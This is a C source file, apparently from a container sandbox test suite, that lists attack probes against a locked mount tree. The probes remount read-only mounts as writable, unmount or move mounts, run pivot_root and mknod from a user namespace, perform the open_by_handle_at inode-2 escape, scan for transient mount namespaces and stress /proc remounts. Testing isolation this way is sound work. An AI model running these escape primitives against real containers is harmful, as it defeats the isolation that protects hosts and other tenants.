// SPDX-License-Identifier: Apache-2.0
/*
 * attack: the locked mount tree. Make writable what is read-only, take away or move what is
 * mounted, mount what the container may not, and find the mount namespaces in which it is not
 * locked yet.
 */
#include "config.h"
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

static int remount_rw(char **a)
{
	return result(mount("none", a[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int remount_rw_super(char **a)
{
	return result(mount("none", a[0], NULL, MS_REMOUNT, NULL));
}

static int remount_rw_setattr(char **a)
{
	return set_attr(AT_FDCWD, a[0], 0, 0, MOUNT_ATTR_RDONLY, 0);
}

static int remount_rw_setattr_recursive(char **a)
{
	return set_attr(AT_FDCWD, a[0], AT_RECURSIVE, 0, MOUNT_ATTR_RDONLY, 0);
}

/* A detached clone of the mount, made writable where nobody looks. */
static int clone_rw(char **a)
{
	int fd = tree_open(a[0], OPEN_TREE_CLONE);

	return fd < 0 ? fd : set_attr(fd, "", AT_EMPTY_PATH, 0, MOUNT_ATTR_RDONLY, 0);
}

static int clone_recursive_rw(char **a)
{
	int fd = tree_open(a[0], OPEN_TREE_CLONE | AT_RECURSIVE);

	return fd < 0 ? fd
		      : set_attr(fd, "", AT_EMPTY_PATH | AT_RECURSIVE, 0, MOUNT_ATTR_RDONLY, 0);
}

static int clear_nodev(char **a)
{
	int r = set_attr(AT_FDCWD, a[0], 0, 0, MOUNT_ATTR_NODEV, 0);

	return r == -ENOSYS ? result(mount("none", a[0], NULL, MS_REMOUNT | MS_BIND, NULL)) : r;
}

static int un_mount(char **a)
{
	return result(umount2(a[0], 0));
}

static int un_mount_lazy(char **a)
{
	return result(umount2(a[0], UMOUNT_LAZY));
}

static int un_mount_flags(char **a)
{
	return result(umount2(a[0], (int)strtol(a[1], NULL, 0)));
}

static int move_old(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_MOVE, NULL));
}

static int move_new(char **a)
{
	int fd = tree_open(a[0], 0);

	return fd < 0 ? fd : result(syscall(SYS_move_mount, fd, "", AT_FDCWD, a[1], 4));
}

static int do_bind(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_BIND, NULL));
}

static int do_rbind(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_BIND | MS_REC, NULL));
}

/*
 * Can that file be written? Writes what it reads, so that a launcher which fails this test does no
 * harm to the machine; where nothing can be read, an open for writing is enough.
 */
static int write_same(char **a)
{
	char buf[4096];
	int fd = open(a[0], O_RDONLY | O_NONBLOCK);
	ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof(buf));

	fd = open(a[0], O_WRONLY | O_NONBLOCK);
	if (fd < 0)
		return -errno;
	return n <= 0 ? 0 : write(fd, buf, (size_t)n) < 0 ? -errno : 0;
}

static int overlay(char **a)
{
	char opts[1024];

	snprintf(opts, sizeof(opts), "lowerdir=%s", a[0]);
	if (mount("overlay", a[1], "overlay", 0, opts) == 0)
		return 0;
	/* One lower layer without an upper is refused anyway: try with a second. */
	snprintf(opts, sizeof(opts), "lowerdir=%s:/tmp", a[0]);
	return result(mount("overlay", a[1], "overlay", 0, opts));
}

static int overlay_rw(char **a)
{
	char opts[1024];

	snprintf(opts, sizeof(opts), "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", a[0], a[1],
		 a[2]);
	return result(mount("overlay", a[3], "overlay", 0, opts));
}

static int mount_type(char **a)
{
	return result(mount(a[0], a[1], a[0], 0, strcmp(a[2], "-") == 0 ? NULL : a[2]));
}

static int remount_own(char **a)
{
	if (mount("none", a[0], NULL, MS_REMOUNT | MS_RDONLY, NULL) < 0)
		return -errno;
	return result(mount("none", a[0], NULL, MS_REMOUNT, NULL));
}

static int pivot(char **a)
{
	if (unshare(CLONE_NEWNS) < 0 || mount(a[0], a[0], NULL, MS_BIND | MS_REC, NULL) < 0)
		return -errno;
	if (chdir(a[0]) < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
		return -errno;
	return result(umount2(".", UMOUNT_LAZY));
}

/* From a user namespace in which nobody has a name: whoever helps us there is who? */
static int node_unmapped(char **a)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -errno;
	return result(mknod(a[0], S_IFCHR | 0666, makedev(1, 3)));
}

/* Of <linux/nsfs.h> (6.12). */
struct ns_info {
	uint32_t size, nr_mounts;
	uint64_t id;
};
#define NS_USERNS _IO(0xb7, 1)
#define NS_NEXT	  _IOR(0xb7, 11, struct ns_info)

/* In the mount namespace @ns: is there a procfs at the place of "/dev" that shows @file bare? */
static bool shows_bare(int ns, const char *file)
{
	struct statfs fs;
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		if (unshare(CLONE_FS) < 0 || setns(ns, CLONE_NEWNS) < 0 || chdir("/dev") < 0)
			_exit(2);
		_exit(statfs(file, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC ? 0 : 1);
	}
	return waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

static bool same_owner(int a, int b)
{
	int x = ioctl(a, NS_USERNS), y = ioctl(b, NS_USERNS);
	struct stat s, t;
	bool same = fstat(x, &s) == 0 && fstat(y, &t) == 0 && s.st_ino == t.st_ino;

	close(x);
	close(y);
	return same;
}

/* Whoever has power over their owner can find mount namespaces that are there for a moment. */
static int find_namespace(char **a)
{
	double until = now_ms() + atoi(a[2]) * 1e3;
	struct ns_info info = { sizeof(info) };
	int from = open(a[0], O_RDONLY | O_CLOEXEC), seen = 0;

	if (from < 0)
		return -errno;
	do {
		int at = fcntl(from, F_DUPFD_CLOEXEC, 0), next;

		while ((next = ioctl(at, NS_NEXT, &info)) >= 0) {
			close(at);
			at = next;
			if (!same_owner(from, at))
				continue;
			seen++;
			if (shows_bare(at, a[1]))
				return 0;
		}
		close(at);
		if (errno != ENOENT)
			return -errno;
	} while (now_ms() < until);
	printf("%d\n", seen);
	return -ENOENT;
}

/* The classic: a file handle of inode 2, opened through any mount of the same file system. */
static int open_by_handle(char **a)
{
	struct {
		unsigned int bytes;
		int type;
		uint32_t ino, gen;
	} fh = { 8, 1, 2, 0 };
	int mnt = open(a[0], O_RDONLY);

	return mnt < 0 ? -errno : result(syscall(SYS_open_by_handle_at, mnt, &fh, O_RDONLY));
}

/* So many mounts that to look at them all takes long, on each other. */
static int make_mounts(const char *dir)
{
	char path[256];

	if (mount("none", dir, "tmpfs", 0, NULL) < 0)
		return -errno;
	for (int i = 0; i < 100; i++) {
		snprintf(path, sizeof(path), "%s/%d", dir, i);
		if (mkdir(path, 0700) < 0)
			return -errno;
		for (int depth = 0; depth < 60; depth++)
			if (mount(path, path, NULL, MS_BIND | MS_REC, NULL) < 0)
				return -errno;
	}
	return 0;
}

/* Sixteen who have /proc made read-only at the same time, again and again, for a[1] ms. */
static int remount_load(char **a)
{
	double until;
	int r = make_mounts(a[0]);

	if (r < 0)
		return r;
	printf("made\n");
	fflush(stdout);
	until = now_ms() + atoi(a[1]);
	for (int i = 0; i < 16; i++)
		if (fork() == 0) {
			while (now_ms() < until)
				mount(NULL, "/proc", NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
			_exit(0);
		}
	while (wait(NULL) > 0)
		;
	return 0;
}

const struct call attack_mounts[] = {
	{ "remount-load", remount_load, 2, "DIRECTORY MILLISECONDS" },
	{ "remount-rw", remount_rw, 1, "DIR" },
	{ "remount-rw-super", remount_rw_super, 1, "DIR" },
	{ "remount-rw-setattr", remount_rw_setattr, 1, "DIR" },
	{ "remount-rw-setattr-recursive", remount_rw_setattr_recursive, 1, "DIR" },
	{ "clone-rw", clone_rw, 1, "DIR" },
	{ "clone-recursive-rw", clone_recursive_rw, 1, "DIR" },
	{ "clear-nodev", clear_nodev, 1, "DIR" },
	{ "umount", un_mount, 1, "PATH" },
	{ "umount-lazy", un_mount_lazy, 1, "PATH" },
	{ "move", move_old, 2, "FROM TO" },
	{ "umount-flags", un_mount_flags, 2, "PATH FLAGS" },
	{ "move-mount", move_new, 2, "FROM TO" },
	{ "bind", do_bind, 2, "FROM TO" },
	{ "rbind", do_rbind, 2, "FROM TO" },
	{ "write-same", write_same, 1, "FILE" },
	{ "overlay", overlay, 2, "LOWER TARGET" },
	{ "overlay-rw", overlay_rw, 4, "LOWER UPPER WORK TARGET" },
	{ "mount", mount_type, 3, "TYPE TARGET OPTIONS|-" },
	{ "remount-own", remount_own, 1, "DIR" },
	{ "pivot", pivot, 1, "DIR" },
	{ "open-by-handle", open_by_handle, 1, "DIR" },
	{ "node-unmapped", node_unmapped, 1, "PATH" },
	{ "find-namespace", find_namespace, 3, "NAMESPACE FILE SECONDS" },
	{ 0 },
};
